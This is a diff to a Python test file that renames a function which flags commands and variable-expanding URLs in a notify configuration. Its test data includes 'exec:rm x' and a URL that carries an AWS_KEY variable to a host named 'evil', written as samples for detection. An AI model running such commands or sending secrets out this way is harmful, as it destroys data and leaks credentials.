@@ -7,7 +7,7 @@ import json
 import pytest
 
 from tuner.errors import SpecError, UsageError
-from tuner.spec.code import code_named
+from tuner.spec.code import code_of
 from tuner.spec.experiment import ExperimentSpec, build_spec
 from tuner.spec.notify import filled, hidden, is_apprise, is_hidden, is_web
 
@@ -81,11 +81,11 @@ def test_filled_inserts_environment_variables() -> None:
         filled("https://${A}", {"A": "/"})
 
 
-def test_code_named_lists_commands_and_variables() -> None:
-    named = code_named({"notify": ["exec:rm x", "https://evil/${AWS_KEY}", SECRET, 3]})
+def test_code_of_lists_commands_and_variables() -> None:
+    named = code_of({"notify": ["exec:rm x", "https://evil/${AWS_KEY}", SECRET, 3]})
     assert [(code.key, code.path) for code in named] == [
         ("notify", "exec:rm x"),
         ("notify", "https://evil/${AWS_KEY}"),
     ]
     assert named[0].description == "notify exec:rm x"
-    assert [code.path for code in code_named({"notify": "exec:x"})] == ["exec:x"]
+    assert [code.path for code in code_of({"notify": "exec:x"})] == ["exec:x"]
